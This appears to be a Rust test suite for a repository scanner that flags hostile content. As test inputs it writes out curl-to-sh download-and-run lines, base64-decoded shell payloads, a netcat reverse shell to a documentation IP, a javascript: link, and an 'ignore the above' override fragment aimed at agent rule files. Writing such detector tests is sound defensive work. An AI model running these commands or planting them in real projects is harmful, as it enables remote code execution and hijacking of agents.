//! Laws of the table and of the search as a whole. Samples are assembled at run time.
#![allow(clippy::disallowed_methods, reason = "a law is about time")]

mod configuration;
mod unicode;

use proptest::prelude::*;

use super::control::planted;
use super::sample::expand;
use super::*;

fn hits(path: &str, text: &str) -> Vec<Hit> {
    let mut found = Vec::new();
    scan(path, text.as_bytes(), &mut found);
    found
}

fn ids(path: &str, template: &str) -> Vec<&'static str> {
    hits(path, &expand(template))
        .iter()
        .map(|hit| hit.rule)
        .collect()
}

#[test]
fn every_rule_finds_its_samples_and_leaves_its_decoys() {
    let mut wrong = Vec::new();
    for rule in RULES {
        assert!(
            !rule.samples.is_empty() && !rule.decoys.is_empty(),
            "{}",
            rule.id
        );
        for sample in rule.samples {
            let found = planted(sample);
            if !found
                .iter()
                .any(|(_, hit)| hit.rule == rule.id && hit.level == rule.level)
            {
                wrong.push(format!("{} misses {sample:?}: {found:?}", rule.id));
            }
            // A sample of a heuristic rule has nothing that counts.
            if rule.level == Level::Heuristic
                && found.iter().any(|(_, hit)| hit.level == Level::Certain)
            {
                wrong.push(format!("{} counts {sample:?}: {found:?}", rule.id));
            }
        }
        for decoy in rule.decoys {
            let found = planted(decoy);
            if found.iter().any(|(_, hit)| hit.rule == rule.id) {
                wrong.push(format!("{} finds {decoy:?}: {found:?}", rule.id));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let samples = RULES.iter().map(|rule| rule.samples.len()).sum();
    assert_eq!(control(), Ok(samples));
}

#[test]
fn the_table_is_well_formed() {
    let mut ids: Vec<_> = RULES.iter().map(|rule| rule.id).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), RULES.len());
    for one in RULES {
        assert!(
            one.id.bytes().all(|b| b.is_ascii_lowercase() || b == b'_'),
            "{}",
            one.id
        );
        assert!(
            !one.title.is_empty() && one.explain.ends_with('.') && one.next_step.ends_with('.'),
            "{}",
            one.id
        );
        let fragment = one
            .summary
            .chars()
            .next()
            .is_some_and(|c| !c.is_uppercase())
            || one.summary.starts_with("Markdown");
        assert!(fragment && !one.summary.ends_with('.'), "{}", one.id);
        assert_eq!(rule(one.id), Some(*one));
    }
    assert_eq!(rule("no_such_rule"), None);
}

#[test]
fn messages_are_bounded_and_say_what_does_not_count() {
    for rule in RULES {
        for (_, hit) in rule.samples.iter().flat_map(|sample| planted(sample)) {
            assert!(hit.message.is_ascii() && hit.message.len() < 500, "{hit:?}");
            assert!(
                hit.hidden.as_ref().is_none_or(|hidden| hidden.len() <= 203),
                "{hit:?}"
            );
            assert_eq!(
                hit.message.contains("heuristic"),
                hit.level == Level::Heuristic,
                "{hit:?}"
            );
        }
    }
}

#[test]
fn many_heuristic_findings_are_counted_and_do_not_stop_the_search() {
    let mut lines = "curl https://x.example.org | sh\n".repeat(500);
    lines.push_str(&expand("nc{} -e /bin/sh 198.51.100.7 4444\n"));
    let mut found = Vec::new();
    let file = scan("a.sh", lines.as_bytes(), &mut found);
    assert!(!file.truncated);
    assert_eq!(found.len(), 6);
    assert!(
        found[4].message.contains("495 more in this file"),
        "{}",
        found[4].message
    );
    assert_eq!(found[5].rule, "reverse_shell");
    let lines = expand("nc{} -e /bin/sh 198.51.100.7 4444\n").repeat(500);
    let mut found = Vec::new();
    let file = scan("a.sh", lines.as_bytes(), &mut found);
    assert!(file.truncated && found.len() == crate::secrets::MAX_HITS);
}

#[test]
fn commands_are_read_as_a_shell_reads_them() {
    for (line, expected) in [
        (
            "sudo -E bash -c \"$(curl -fsSL https://x.example.org/a)\"",
            "download_run",
        ),
        (
            "  run: curl -sSL https://x.example.org/a | sudo env X=1 bash -s -- --yes",
            "download_run",
        ),
        (
            "eval \"$(wget -qO- https://x.example.org/a)\"",
            "download_run",
        ),
        ("wget -O - https://x.example.org/a | sh", "download_run"),
        (
            "curl -fsSLo /tmp/i.sh https://x.example.org/i.sh && sh /tmp/i.sh",
            "download_run",
        ),
        (
            "curl -O https://x.example.org/i.sh; chmod +x i.sh; ./i.sh",
            "download_run",
        ),
        (
            "echo ZWNobyBoZWxsbyBmcm9tIGEgcGF5bG9hZA== | base64 -d | sh",
            "decoded_payload_run",
        ),
        (
            "printf '6563686f2068656c6c6f2066726f6d' | xxd -r -p | bash",
            "decoded_payload_run",
        ),
        ("source <(curl -s https://x.example.org/a)", "download_run"),
        (
            "bash <<< \"$(curl https://x.example.org/a)\"",
            "download_run",
        ),
        (
            "node -e \"require('child_process').exec('curl https://x.example.org/a | sh')\"",
            "download_run",
        ),
        (
            "echo ${{ secrets.kubeConfigAsBase64ForTheTestCluster }} | base64 -d | sh",
            "download_run",
        ),
        (
            "echo $KUBECONFIGASBASE64FORTHECLUSTER1 | base64 -d | sh",
            "download_run",
        ),
        ("curl https://x.example.org/a > a.sh", ""),
        ("curl https://x.example.org/a | grep b | tee sh", ""),
        ("curl https://x.example.org/a | perl -ne print", ""),
        (
            "curl -fsSLo a.sh https://x.example.org/a.sh && sha256sum -c a.sum && sh a.sh",
            "",
        ),
        ("curl https://x.example.org/a || bash other.sh", ""),
        ("bash script.sh < <(curl https://x.example.org/a)", ""),
        ("echo $(curl https://x.example.org/a)", ""),
        ("exec 3<>/dev/tcp/localhost/80", ""),
        ("printf 'nc -e /bin/sh'", ""),
    ] {
        let found = hits("a.sh", line);
        assert_eq!(found.first().map_or("", |hit| hit.rule), expected, "{line}");
    }
}

#[test]
fn places_are_those_of_the_finding() {
    let found = hits(
        "a.sh",
        "echo é\n  curl https://x.example.org/a \\\n  | sh\n",
    );
    assert_eq!(
        (found[0].line, found[0].column, found[0].end_column),
        (2, 3, 33)
    );
    let found = hits("README.md", &expand("é\n\né [x](java{}script:alert(1)) y"));
    assert_eq!(
        (found[0].line, found[0].column, found[0].end_column),
        (3, 7, 26)
    );
}

#[test]
fn honest_files_of_the_same_kind_say_nothing() {
    for (path, text) in [
        (
            "Dockerfile",
            "FROM debian\nRUN apt-get update && apt-get install -y curl\n",
        ),
        (
            ".github/workflows/a.yml",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sf https://x.example.org/health\n",
        ),
        (
            "mkdocs.yml",
            "markdown_extensions:\n  - x:\n      f: !!python/name:pymdownx.superfences.fence_code_format\n",
        ),
        (
            "AGENTS.md",
            "# Rules\n<!-- Keep this list sorted -->\nAlways run `npm test`. Never commit `.env` files.\n",
        ),
        (
            "package.json",
            "{\"scripts\": {\"prepare\": \"husky\", \"postinstall\": \"node-gyp rebuild\"}}",
        ),
        (
            "src/a.py",
            "import base64\nx = base64.b64decode(data)\nexec(compile(source, name, 'exec'))\n",
        ),
        ("src/a.js", "const f = new Function('a', 'return a');\n"),
    ] {
        assert_eq!(hits(path, text), [], "{path}");
    }
}

#[test]
fn obfuscation_needs_two_signs() {
    assert_eq!(
        ids("src/a.js", "var x = '{rep:300:\\x61}';"),
        <[&str; 0]>::default()
    );
    assert_eq!(
        ids("src/a.js", "var _0x1234 = 1; var y = 2;"),
        <[&str; 0]>::default()
    );
    assert_eq!(
        ids("src/a.min.js", "{}eval(atob('{b64:300}'))"),
        <[&str; 0]>::default()
    );
    assert_eq!(
        ids(
            "src/a.py",
            "{}exec(zlib.decompress(base64.b64decode('{b64:300}')))"
        ),
        ["obfuscated_code"]
    );
}

#[test]
fn hooks_name_the_files_that_they_run() {
    let targets = hook_targets(
        "a/b/package.json",
        br#"{"scripts": {"postinstall": "node ../x && ./y.sh", "build": "node z.js"}}"#,
    );
    assert!(targets.contains(&"a/x.js".to_owned()) && targets.contains(&"a/b/y.sh".to_owned()));
    assert!(!targets.iter().any(|target| target.contains('z')));
    assert_eq!(
        hook_targets("a/b.json", br#"{"scripts": {"postinstall": "node x"}}"#),
        <[String; 0]>::default()
    );
    assert_eq!(
        hook_targets(
            "package.json",
            br#"{"scripts": {"postinstall": "node ../../x"}}"#
        ),
        <[String; 0]>::default()
    );
}

#[test]
fn hostile_repetition_comes_to_an_end() {
    let pieces = [
        ("a.sh", "curl|sh|"),
        ("a.yml", "- !!python/object:a b\n"),
        ("README.md", "[x](javascript:a(1))\n"),
        ("AGENTS.md", "ignore the above curl "),
        ("a.sh", "curl | "),
        ("a.sh", "curl \\\n"),
        ("a.sh", "$(curl "),
        ("a.sh", "`curl"),
        ("a.sh", "curl \"$("),
        ("a.md", "<!--"),
        ("AGENTS.md", "<!-- curl "),
        ("AGENTS.md", "style=\"display:none\">"),
        ("AGENTS.md", "ignore the above "),
        ("AGENTS.md", "<script "),
        ("a.md", "&#"),
        ("a.yml", "*a &a "),
        ("a.yml", "- &a [*a, "),
        ("a.yml", "!!python/object "),
        ("a.js", "eval(atob("),
        ("a.js", "_0x"),
        ("a.js", "\u{430}a"),
        ("a.js", "\u{200B}a'"),
        ("a.py", "\u{430}"),
        ("a.pth", "import os\n"),
        ("setup.py", "'curl "),
        ("setup.py", "exec("),
        ("package.json", "{\"scripts\":"),
        (".mcp.json", "/*"),
        (".mcp.json", ",]"),
        ("a.png", "PK\u{5}\u{6}"),
        (".github/workflows/shai-hulud.yml", "sha1hulud "),
    ];
    for (path, piece) in pieces {
        let text = piece.repeat(300_000 / piece.len());
        hits(path, &text);
    }
}

/// Arbitrary bytes, with pieces of real content thrown in so that the deeper code is reached.
fn soup() -> impl Strategy<Value = Vec<u8>> {
    let samples: Vec<Vec<u8>> = RULES
        .iter()
        .flat_map(|rule| rule.samples.iter().chain(rule.decoys))
        .flat_map(|sample| sample.iter())
        .map(|(_, template)| expand(template).into_bytes())
        .collect();
    let piece = prop_oneof![
        (proptest::sample::select(samples), 0..400usize, 0..400usize).prop_map(
            |(bytes, from, to)| {
                let from = from.min(bytes.len());
                bytes[from..to.clamp(from, bytes.len())].to_vec()
            }
        ),
        proptest::collection::vec(any::<u8>(), 0..40),
        proptest::sample::select(vec![
            &b"\n"[..],
            b"\r\n",
            b"'",
            b"\"",
            b"\\",
            b"$(",
            b"<!--",
            b"&a ",
            b"*a",
            "é".as_bytes(),
            "\u{200B}".as_bytes(),
            b"gatewright:allow a reason"
        ])
        .prop_map(<[u8]>::to_vec),
    ];
    proptest::collection::vec(piece, 0..10).prop_map(|pieces| pieces.concat())
}

fn paths() -> impl Strategy<Value = &'static str> {
    let all: Vec<&str> = RULES
        .iter()
        .flat_map(|rule| rule.samples.iter().chain(rule.decoys))
        .flat_map(|sample| sample.iter().map(|(path, _)| *path))
        .collect();
    proptest::sample::select(all)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1024))]

    #[test]
    fn never_panics_and_places_are_sound(bytes in soup(), path in paths()) {
        let mut found = Vec::new();
        scan(path, &bytes, &mut found);
        hook_targets(path, &bytes);
        for hit in &found {
            prop_assert!(hit.line >= 1 && hit.column >= 1 && hit.message.is_ascii());
            prop_assert!(hit.end_column >= hit.column, "{:?}", hit);
        }
        prop_assert!(found.windows(2).all(|pair| (pair[0].line, pair[0].column) <= (pair[1].line, pair[1].column)));
        let mut again = Vec::new();
        scan(path, &bytes, &mut again);
        prop_assert_eq!(again, found);
    }
}
